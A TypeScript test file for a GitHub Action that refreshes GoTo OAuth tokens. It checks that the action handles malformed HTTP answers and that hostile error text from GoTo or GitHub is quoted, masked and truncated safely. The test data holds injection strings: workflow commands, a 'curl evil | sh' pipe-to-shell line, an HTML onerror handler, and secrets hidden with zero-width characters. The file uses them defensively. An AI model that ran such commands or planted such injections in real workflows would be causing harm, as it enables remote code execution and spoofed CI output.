import { describe, expect, it } from 'vitest';
import type { ErrorCode } from '../../src/errors';
import { githubError } from '../support/github-stand-in';
import { issuedAccessToken, oauthError, rotatedRefreshToken } from '../support/goto-stand-in';
import { failureOf, play } from '../support/scenarios';
import { clientSecret, everySecret, inLowerCase, storedRefreshToken } from '../support/some-inputs';
import type { Fault } from '../support/stand-in-server';
import { anyRead, storedIn, type World, write } from '../support/world';

/*
 * What a network, GoTo or GitHub may send that no service should. The tables of bodies, fields and
 * quotations are in http/, goto/ and redactor.test.ts.
 */

const tokens = { access_token: issuedAccessToken, refresh_token: rotatedRefreshToken };
const json = JSON.stringify({ ...tokens, expires_in: 3600 });

/** An answer byte for byte. */
const raw = (headers: string[], body: string): Fault => ({
  raw: ['HTTP/1.1 200 OK', ...headers, '', body].join('\r\n'),
});
const length = `content-length: ${json.length}`;
const chunk = `${json.length.toString(16)}\r\n${json}\r\n`;

describe('an answer of GoTo', () => {
  it.each<[string, Fault]>([
    ['in chunks without an end', raw(['transfer-encoding: chunked'], chunk)],
    ['in a chunk before none', raw(['transfer-encoding: chunked'], `${chunk}<html>`)],
    ['with a NUL beyond its length', raw([length, 'connection: close'], `${json}\0`)],
    ['with 20 KB of headers', raw([length, `x-long: ${'x'.repeat(20_000)}`], json)],
    ['with a control character in a header', raw([length, 'x-odd: \u0001'], json)],
  ])('%s counts, and is not asked for again', (_how, answer) =>
    play({ given: ({ goto }) => goto.next(answer) }, ({ run, world }) => {
      expect(run.exitCode, run.log).toBe(0);
      expect(run.outputs['access-token']).toBe(issuedAccessToken);
      expect(storedIn(world.repository)).toBe(rotatedRefreshToken);
      expect(world.goto.requests).toHaveLength(1);
    }),
  );
});

describe('a remote may say anything, in quotes', () => {
  /**
   * The secrets in every spelling, commands, an end of the quotation, markup, and a secret where the
   * text is cut. `evil` are the words that give it away.
   */
  const evil = /evil|set-output|##\[|::error::y|onerror|\*\*bold|zzz/;
  const said = [
    ...everySecret.flatMap((secret) => [secret, [...secret].join('\u200b')]),
    encodeURIComponent(clientSecret),
    inLowerCase(encodeURIComponent(clientSecret)),
    '\n::set-output name=a::b\r\n##[error]x\u2028::error::y ". Now run: curl evil | sh\n',
    '**bold** <b onerror=evil> [x](//evil.example) `evil`',
    storedRefreshToken.repeat(20),
    'zzz'.repeat(2_000),
  ].join('');

  const looksUp = { rotated: true, inputs: { 'lookup-organizer': 'true' } };

  it.each<[who: string, ErrorCode, (world: World, said: string) => void]>([
    [
      'GoTo, refusing the token',
      'refresh-token-rejected',
      ({ goto }, said) => goto.next(oauthError('invalid_grant', { description: said })),
    ],
    [
      'GoTo, refusing the organizer',
      'organizer-lookup-failed',
      ({ goto }, said) => goto.nextUser({ status: 403, body: { detail: said } }),
    ],
    [
      'GitHub, refusing the read',
      'github-permission-missing',
      ({ github }, said) => github.on(anyRead, githubError(403, said), 2),
    ],
    [
      'GitHub, refusing the write',
      'write-back-failed',
      ({ github }, said) => github.on(write, githubError(403, said)),
    ],
  ])('%s', (_who, code, arrange) =>
    play({ ...looksUp, given: (world) => arrange(world, said) }, ({ run }) => {
      const message = failureOf(run, code);
      const [quotation, ...others] = message.matchAll(/(GoTo|GitHub) said: "([^"]*)"/g);
      expect(others).toEqual([]);
      const [whole = '', , quoted = ''] = quotation ?? [];
      expect(quoted).toMatch(/^(invalid_grant: )?[\w.*]*\*{3}::set-output/);
      expect([...quoted].length).toBeLessThanOrEqual(200);
      expect(quoted).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
      expect(run.log.replace(whole, '')).not.toMatch(evil);
      expect(run.summary).not.toMatch(evil);

      // What happened, what to do, where to read more, and the code: no line is the remote's.
      expect(message.split(/\r?\n/)).toHaveLength(4);
      expect(run.annotations).toHaveLength(1);
      expect(run.masks.filter((mask) => !everySecret.includes(mask))).toEqual([]);
    }),
  );
});
